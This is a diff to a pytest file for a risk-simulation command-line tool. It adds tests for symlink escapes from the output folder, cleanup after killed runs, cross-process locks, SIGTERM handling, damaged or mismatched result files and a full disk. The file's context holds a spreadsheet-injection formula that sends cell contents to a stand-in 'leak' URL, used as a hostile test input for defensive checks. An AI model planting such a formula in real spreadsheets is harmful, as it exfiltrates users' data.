@@ -3,7 +3,14 @@ make a resumed run trust damaged files. The one-line refusals are catalogued in 
 this file checks what the outputs hold and what is left on disk."""
 import copy
 import csv
+import json
 import re
+import resource
+import shutil
+import signal
+import subprocess
+import sys
+import time
 import zipfile
 
 import openpyxl
@@ -11,8 +18,10 @@ import pytest
 import yaml
 
 from fsp_risk import cli
+from fsp_risk.errors import ConfigError
 
 CONFIG = "configs/oxfordshire-2024-commissioning.yaml"
+CONFIG_2019 = "configs/oxfordshire-2019-business-case.yaml"
 BASE = yaml.safe_load(open(CONFIG, encoding="utf-8"))
 
 FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
@@ -106,3 +115,154 @@ def test_tex_like_titles_are_drawn_as_typed(hostile_run, tmp_path):
     ax.set_title(r"Costs $\notacommand{x}$ and more")
     save_figure(fig, tmp_path, "t")
     assert (tmp_path / "t.png").stat().st_size > 0
+
+
+# ----------------------------------------------------------------------- paths stay inside --out
+def test_a_partial_folder_linked_outside_out_is_refused(tmp_path, capsys):
+    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
+    out.mkdir()
+    elsewhere.mkdir()
+    (out / ".partial").symlink_to(elsewhere)
+    assert cli.main(["run", CONFIG_2019, "--iterations", "100", "--out", str(out)]) == 2
+    err = capsys.readouterr().err.strip()
+    assert err.startswith(f"fsp-risk: error: {out}: --out: refused to write ") and "outside" in err, err
+    assert list(elsewhere.iterdir()) == []
+
+
+# ----------------------------------------------------------------------- leftovers and signals
+def test_leftovers_of_killed_runs_are_cleaned_by_the_next_run(tmp_path):
+    out = tmp_path / "out"
+    dead = _dead_pid()
+    (out / f".tmp-oxfordshire-2019-business-case-20260101T000000Z-seed1-{dead}").mkdir(parents=True)
+    (out / ".partial").mkdir()
+    (out / ".partial" / "other-config-0123456789ab.lock").write_text(str(dead))
+    assert cli.main(["run", CONFIG_2019, "--deterministic", "--out", str(out)]) == 0
+    assert sorted(p.name for p in out.iterdir() if p.name.startswith(".")) == []  # .partial gone too, once empty
+
+
+def _dead_pid() -> int:
+    proc = subprocess.Popen([sys.executable, "-c", "pass"])
+    proc.wait()
+    return proc.pid  # finished and reaped: no process has this id now (until the system reuses it)
+
+
+def test_the_run_lock_is_held_across_processes(tmp_path):
+    from fsp_risk.runs import PartialRun
+
+    key = {"config_sha256": "abc", "seed": 1, "iterations": 10}
+    holder = subprocess.Popen(
+        [sys.executable, "-c", "import sys, time; from fsp_risk.runs import PartialRun\n"
+         f"p = PartialRun({str(tmp_path)!r}, 'demo', {key!r})\n"
+         "with p.lock():\n    print('held', flush=True); time.sleep(60)"],
+        stdout=subprocess.PIPE, text=True)
+    try:
+        assert holder.stdout.readline().strip() == "held"
+        with pytest.raises(ConfigError, match=rf"another fsp-risk run of this config, seed and iterations is working "
+                                              rf"\(process {holder.pid}\)"):
+            with PartialRun(tmp_path, "demo", key).lock():
+                pass
+        holder.kill()  # killed while holding it: the kernel frees the lock
+        holder.wait()
+        with PartialRun(tmp_path, "demo", key).lock():
+            pass
+    finally:
+        holder.kill()
+
+
+def test_sigterm_is_handled_as_ctrl_c(tmp_path):
+    out = tmp_path / "outputs"
+    args = ["run", CONFIG_2019, "--iterations", str(4 * 65_536), "--seed", "3", "--workers", "1", "--out", str(out)]
+    proc = subprocess.Popen([sys.executable, "-m", "fsp_risk.cli", *args], stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, text=True)
+    deadline = time.monotonic() + 300
+    while not list(out.glob(".partial/*/results.nc")) or not _kept(out):
+        assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()
+        time.sleep(0.05)
+    proc.send_signal(signal.SIGTERM)
+    _, stderr = proc.communicate(timeout=120)
+    assert proc.returncode == 143, stderr
+    assert "fsp-risk: terminated (SIGTERM); no run folder was written" in stderr and "Traceback" not in stderr
+    assert "run the same command with --resume to continue from them" in stderr
+    assert [p.name for p in out.iterdir()] == [".partial"]  # kept blocks; no run folder, no temporary folder
+    assert not list(out.glob(".partial/*.lock"))
+
+
+def _kept(out) -> bool:
+    for record in out.glob(".partial/*/progress.json"):
+        try:
+            return bool(json.loads(record.read_text())["results"])
+        except (OSError, ValueError):
+            return False
+    return False
+
+
+# ----------------------------------------------------------------------- report and compare check their files
+@pytest.fixture(scope="module")
+def two_runs(tmp_path_factory):
+    out = tmp_path_factory.mktemp("two")
+    for seed in ("1", "2"):
+        assert cli.main(["run", CONFIG_2019, "--iterations", "500", "--seed", seed, "--out", str(out)]) == 0
+    return sorted(out.iterdir())
+
+
+def test_report_refuses_a_results_file_from_another_run(two_runs, tmp_path, capsys):
+    a, b = two_runs
+    mixed = tmp_path / "mixed"
+    shutil.copytree(a, mixed)
+    shutil.copy(b / "results.nc", mixed / "results.nc")
+    assert cli.main(["report", str(mixed)]) == 2
+    err = capsys.readouterr().err.strip()
+    assert err.startswith(f"fsp-risk: error: {mixed / 'run.json'}: run.json belongs to run ") and err.count("\n") == 0
+    assert "expected the files of one run folder, as 'fsp-risk run' wrote them" in err
+    (mixed / "run.json").unlink()  # without the record, scenarios.nc still names its run
+    assert cli.main(["report", str(mixed)]) == 2
+    assert f"{mixed / 'scenarios.nc'}: scenarios.nc belongs to run" in capsys.readouterr().err
+    assert cli.main(["compare", str(a), str(mixed), "--out", str(tmp_path / "c")]) == 2
+
+
+def test_report_says_cannot_read_for_a_damaged_results_file(two_runs, tmp_path, capsys):
+    damaged = tmp_path / "damaged"
+    shutil.copytree(two_runs[0], damaged)
+    data = (damaged / "results.nc").read_bytes()
+    (damaged / "results.nc").write_bytes(data[: len(data) // 3])  # cut short, as by a copy that failed
+    before = sorted(p.name for p in damaged.iterdir())
+    assert cli.main(["report", str(damaged)]) == 2
+    err = capsys.readouterr().err.strip()
+    assert err.startswith(f"fsp-risk: error: {damaged / 'results.nc'}: cannot read results.nc (") and "\n" not in err
+    assert sorted(p.name for p in damaged.iterdir()) == before
+
+
+def test_report_rebuilds_a_run_that_imported_a_register_csv(tmp_path, capsys):
+    data = copy.deepcopy(yaml.safe_load(open(CONFIG_2019, encoding="utf-8")))
+    data["risk_register"]["import_csv"] = {
+        "file": "register.csv", "likelihood_bands": [[0, 0.05], [0.05, 0.2], [0.2, 0.5], [0.5, 0.8], [0.8, 1.0]],
+        "impact_bands": [[0, 1e4], [1e4, 5e4], [5e4, 2.5e5], [2.5e5, 5e5], [5e5, 1e6]],
+        "source": "test council register", "date": "2019-07-16", "review": "2020-07-16"}
+    (tmp_path / "register.csv").write_text("id,title,owner,likelihood,impact\nC1,Grant ends,FBP,4,3\n")
+    config = tmp_path / "imported.yaml"
+    config.write_text(yaml.safe_dump(data, sort_keys=False))
+    out = tmp_path / "out"
+    assert cli.main(["run", str(config), "--deterministic", "--out", str(out)]) == 0
+    (run,) = out.iterdir()
+    before = (run / "risk_register.csv").read_bytes()
+    (tmp_path / "register.csv").unlink()  # the report works from what was run, not from the file now
+    assert cli.main(["report", str(run)]) == 0
+    assert (run / "risk_register.csv").read_bytes() == before
+    assert "C1" in before.decode()
+
+
+# ----------------------------------------------------------------------- a disk that fills mid-run
+def test_a_disk_full_mid_run_says_so_in_one_line(tmp_path):
+    out = tmp_path / "outputs"
+    args = ["run", CONFIG_2019, "--iterations", str(65_536), "--seed", "3", "--out", str(out)]
+
+    def small_disk():  # files may not grow past 20 MB: one block of results is larger than that
+        resource.setrlimit(resource.RLIMIT_FSIZE, (20_000_000, 20_000_000))
+
+    proc = subprocess.run([sys.executable, "-m", "fsp_risk.cli", *args], capture_output=True, text=True,
+                          preexec_fn=small_disk, timeout=600)
+    assert proc.returncode == 1, proc.stderr
+    last = proc.stderr.strip().splitlines()[-1]
+    assert last.startswith("fsp-risk: error: cannot write outputs: ") and "Traceback" not in proc.stderr, proc.stderr
+    assert "results" in last or "scenarios" in last, last
+    assert not [p for p in out.iterdir() if not p.name.startswith(".partial")]  # no run folder, no temporary one
